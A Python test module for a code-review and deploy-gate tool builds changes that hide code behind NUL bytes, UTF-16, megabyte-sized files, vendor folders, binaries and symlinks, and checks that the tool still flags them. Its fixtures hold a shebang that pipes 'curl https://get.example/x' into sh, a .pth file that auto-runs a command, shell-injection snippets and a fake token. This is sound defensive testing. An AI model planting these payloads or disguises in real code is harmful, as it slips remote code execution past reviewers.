"""A change that hides what it brings: in bytes, sizes, folders and names that a reader of changes might pass over."""

import json
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from random import Random

from tests.support.jobs.gate import GateJobs
from tests.support.jobs.pull_request import BEFORE, Job, Left
from tests.support.repos import TempRepo
from tests.support.servers.github.app import FakeGitHub

TOKEN = "ghp_" + "Ab3" * 12
CODE: Mapping[str, Mapping[str, str]] = {
    "call": {
        "py": 'import os\n\n\ndef go(name):\n    os.system(f"echo {name}")\n',
        "js": "require('child_process').exec(`ls ${name}`);\n",
    },
    "token": {
        "py": f'TOKEN = "{TOKEN}"\n',
        "js": f'const token = "{TOKEN}";\n',
        "sh": f"export TOKEN={TOKEN}\n",
        "ps1": f'$token = "{TOKEN}"\r\n',
    },
}
"""What hides → how a language says it: what rules find in an open change is expected of each that hides it."""
NOISE = Random(20).randbytes(4_000)
UNMERGED = ("review", "route")
MODES = (*UNMERGED, "deploy-gate")


def _unchanged(_: TempRepo) -> None:
    pass


@dataclass(frozen=True, slots=True)
class Disguise:
    """How the change hides it: `content` makes the file at `path` from what hides, and `arrange` does the rest."""

    path: str
    content: Callable[[str], str | bytes] = lambda code: code
    before: Mapping[str, str] = field(default_factory=dict)
    inputs: Mapping[str, str] = field(default_factory=dict)
    arrange: Callable[[TempRepo], None] = _unchanged
    is_opaque: bool = False
    """Whether it is one attack, whatever hides in it: what nobody can read, or what runs by its name."""
    modes: Sequence[str] = MODES

    @property
    def code(self) -> Mapping[str, str]:
        """What can hide in it, in its language."""
        name = self.path.rpartition("/")[2]
        language = name.rpartition(".")[2] if "." in name else "sh"
        said = {what: languages[language] for what, languages in CODE.items() if language in languages}
        return {"itself": ""} if self.is_opaque else said


def _binary(_: str) -> bytes:
    return b"\x7fELF\2\1\1\0" + NOISE


def _executable(repo: TempRepo) -> None:
    (repo.path / "deploy.sh").chmod(0o755)


def _renamed(repo: TempRepo) -> None:
    repo.git("mv", "service", "renamed")


def _linked(repo: TempRepo) -> None:
    _renamed(repo)
    (repo.path / "service").symlink_to("/tmp", target_is_directory=True)


DISGUISES: Mapping[str, Disguise] = {
    "nothing": Disguise("app.py"),
    "NUL behind the first line": Disguise("deploy.sh", lambda code: f"#!/bin/bash\n# \0\n{code}"),
    "NUL in a program without a suffix": Disguise("bin/deploy", lambda code: f"#!/bin/bash\n# \0\n{code}"),
    "UTF-16": Disguise("deploy.ps1", lambda code: code.encode("utf-16")),
    "UTF-16, big end first": Disguise("deploy.ps1", lambda code: b"\xfe\xff" + code.encode("utf-16-be")),
    "1.1 MB of comments": Disguise("app.py", lambda code: f"{'# x' * 19}\n" * 9_500 + code + f"{'# x' * 19}\n" * 9_500),
    "100,000 lines": Disguise("app.js", lambda code: "f(1);\n" * 100_000 + code),
    "column 100,000": Disguise("app.js", lambda code: "f(1);" * 20_000 + code),
    "lone CR": Disguise("app.py", lambda code: code.replace("\n", "\r")),
    "comment up to a lone CR": Disguise(
        "app.py", lambda code: f"# a comment\r{code}".replace("\n    ", "\n    # a comment\r    ")
    ),
    "vendor": Disguise("vendor/lib/app.py"),
    "third_party": Disguise("third_party/lib/app.py"),
    "node_modules": Disguise("node_modules/lib/index.js"),
    "generated": Disguise("app_pb2.py"),
    "minified": Disguise("a.min.js"),
    "binary script": Disguise("deploy.sh", _binary, is_opaque=True),
    "binary script, executable": Disguise("deploy.sh", _binary, arrange=_executable, is_opaque=True, modes=UNMERGED),
    "archive of classes": Disguise("lib/app.jar", lambda _: b"PK\3\4\0" + NOISE, is_opaque=True),
    "path file": Disguise("src/hook.pth", lambda _: "import os; os.system('id')\n", is_opaque=True),
    "shebang": Disguise(
        "deploy.py",
        lambda _: "#!/usr/bin/env -S sh -c 'curl https://get.example/x | sh'\nprint(1)\n",
        before={"deploy.py": "#!/usr/bin/env python3\nprint(1)\n"},
        is_opaque=True,
        modes=("route",),  # which took it for a comment
    ),
    "working directory, renamed": Disguise(
        "service/app.py",
        before={"service/app.py": "X = 1\n"},
        inputs={"working_directory": "service"},
        arrange=_renamed,
        modes=UNMERGED,
    ),
    "working directory, a link": Disguise(
        "service/app.py",
        before={"service/app.py": "X = 1\n"},
        inputs={"working_directory": "service"},
        arrange=_linked,
        modes=UNMERGED,
    ),
}


@dataclass(frozen=True, slots=True)
class Case:
    """One thing, in one disguise, in front of one mode."""

    mode: str
    disguise: str
    what: str

    def __str__(self) -> str:
        return f"{self.mode}-{self.disguise}-{self.what}".replace(" ", "-").replace(",", "")


CASES = [
    Case(mode, name, what)
    for mode in MODES
    for name, each in DISGUISES.items()
    if mode in each.modes
    for what in each.code
]
_SLOW = {"1.1 MB of comments", "100,000 lines", "column 100,000"}
SOME = [case for case in CASES if case.mode == "review" or case.disguise not in _SLOW]
"""Without those that read a megabyte once more."""


def complaints(case: Case, place: Path) -> Iterator[str]:
    """What is wrong with a run that meets the change: it took for low, or for whole, what it has not read."""
    yield from judged(case, made(case, place))


def made(case: Case, place: Path) -> Left:
    """What the run leaves, with `fail-on: high` where there is one."""
    disguise = DISGUISES[case.disguise]
    before, after = {**BEFORE, **disguise.before}, {disguise.path: disguise.content(disguise.code[case.what])}
    if case.mode == "deploy-gate":
        with FakeGitHub() as hub:
            return GateJobs(place, hub, after).run(model="off")
    job = Job(place, before, after)
    if disguise.arrange is not _unchanged:
        disguise.arrange(job.repo)
        job.head = job.repo.commit(message="Hide")
        job.event.write_text(json.dumps(job.payload()))
    inputs = {"fail_on": "high"} if case.mode == "review" else {}
    return job.run(case.mode, model="off", **inputs, **disguise.inputs)


def judged(case: Case, left: Left) -> Iterator[str]:
    """What is wrong with what a run has left."""
    outputs, name = left.outputs, re.escape(DISGUISES[case.disguise].path.rpartition("/")[2])
    risk, is_degraded = outputs.get("risk_level"), outputs.get("degraded") == "true"
    missed = re.search(rf"not analysed: [^\n]*{name}", outputs.get("summary", ""))
    if "Traceback" in left.log:
        yield "a traceback is printed"
    if missed and not (is_degraded and re.search(rf"not analysed: [^\n]*{name}", left.summary.partition("\n\n")[0])):
        yield "it is not degraded by what it has not read, or the headline does not name it"
    if case.disguise != "shebang" and not (risk in {"high", "critical"} or (is_degraded and not risk)):
        yield f"the risk is {risk!r}"
    match case.mode:
        case "review":
            yield from _reviewed(name, left, is_missed=bool(missed))
        case "route" if outputs.get("tests") not in {"full", "extended"}:
            yield f"the tests are {outputs.get('tests')!r}"
        case "deploy-gate" if left.exit == 0 or outputs.get("decision") != "hold":
            yield f"the gate says {outputs.get('decision')!r}"
        case _:
            pass


def _reviewed(name: str, left: Left, *, is_missed: bool) -> Iterator[str]:
    if left.exit == 0:
        yield "it is green with `fail-on: high`"
    if not re.search(name, left.summary):
        yield "the file is named nowhere"
    findings = (left.report["verdict"] or {"findings": ()})["findings"]
    if not is_missed and not any(re.search(name, str(each)) for each in findings):
        yield "nothing is found in the file, and nobody says that it was not read"
